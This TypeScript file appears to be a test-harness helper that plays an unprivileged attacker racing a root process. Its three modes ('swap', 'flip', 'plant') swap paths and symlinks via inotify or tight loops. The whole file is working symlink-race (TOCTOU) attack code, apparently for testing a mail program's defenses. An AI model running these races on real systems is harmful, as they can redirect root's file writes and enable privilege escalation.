/**
 * A process of the mail owner, or of whoever owns the directory, which races with root: `attacker WAY PATH PREY [WATCHED]`.
 * It says "ready" when it has begun, and goes on until it is ended.
 */
import {lstatSync, readdirSync, renameSync, symlinkSync, unlinkSync, watch} from 'node:fs'

const [, , way = '', path = '', prey = '', watched = ''] = process.argv
const [aside, bait] = [`${path}.aside`, `${path}.bait`]

const ways: Record<string, () => void> = {swap: swapOnce, flip, plant}
ways[way]!()

/** At the first sign of root in the watched directory the path becomes a link; seen by inotify(7). */
function swapOnce(): void {
  symlinkSync(prey, bait)
  let isDone = false
  watch(watched, () => {
    if (isDone) return
    isDone = true
    renameSync(path, aside)
    renameSync(bait, path)
  })
  ready()
}

/** Now this, now that, as fast as can be. */
function flip(): void {
  symlinkSync(prey, bait)
  ready()
  for (;;) {
    tryTo(() => renameSync(path, aside))
    tryTo(() => renameSync(bait, path))
    tryTo(() => renameSync(path, bait))
    tryTo(() => renameSync(aside, path))
  }
}

/** What turns up in the directory under a name that was not there becomes a link. */
function plant(): void {
  const known = new Set(tryTo(() => readdirSync(path)) ?? [])
  ready()
  for (let at = 0; ; at++) {
    for (const name of tryTo(() => readdirSync(path)) ?? []) {
      if (known.has(name) || !name.startsWith('.')) continue
      tryTo(() => {
        symlinkSync(prey, `${path}/bait.${at}`)
        renameSync(`${path}/bait.${at}`, `${path}/${name}`)
      })
      tryTo(() => lstatSync(`${path}/bait.${at}`) && unlinkSync(`${path}/bait.${at}`))
    }
  }
}

function tryTo<T>(act: () => T): T | undefined {
  try {
    return act()
  } catch {
    return undefined
  }
}

function ready(): void {
  process.stdout.write('ready\n')
}
